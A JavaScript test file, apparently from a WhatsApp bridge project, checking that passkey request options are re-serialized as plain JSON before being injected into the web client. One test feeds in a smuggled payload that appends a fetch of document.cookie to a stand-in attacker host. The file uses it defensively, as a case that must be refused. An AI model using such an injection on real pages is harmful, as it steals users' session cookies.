// Passkey request options (passkey.js) reach the pod only as one JSON object written out again: they end up in
// JavaScript the account's owner runs on web.whatsapp.com. Run by `node --test` (BridgeScriptsTest).
import test from 'node:test'
import assert from 'node:assert/strict'
import { createRequire } from 'node:module'

const require = createRequire(new URL('../../main/baileys-bridge/', import.meta.url))
const baileys = require('./baileys.js')
await baileys.load()
const { passkeyLinking } = require('./passkey.js')

function notified(options) {
  const handlers = {}
  const events = []
  passkeyLinking({ ws: { on: (name, handler) => { handlers[name] = handler } } }, (name, fields) => events.push(fields),
    { warn () {} })
  handlers['CB:notification,type:passkey_prologue_request']({ attrs: { from: baileys.api.S_WHATSAPP_NET },
    content: [{ tag: 'passkey_request_options', content: Buffer.from(options) }] })
  return events
}

test('options with code after the JSON object are refused', () => {
  assert.deepEqual(notified('{"challenge":"abc","rpId":"whatsapp.com"}); fetch("https://evil.example/?" + document.cookie); ({'), [])
})

test('options are passed on as written out again', () => {
  const [event] = notified('{ "challenge" : "abc",\n "rpId": "whatsapp.com", "timeout": 60000 }')
  assert.equal(event.requestOptions, '{"challenge":"abc","rpId":"whatsapp.com","timeout":60000}')
  assert.equal(event.challenge, 'abc')
})
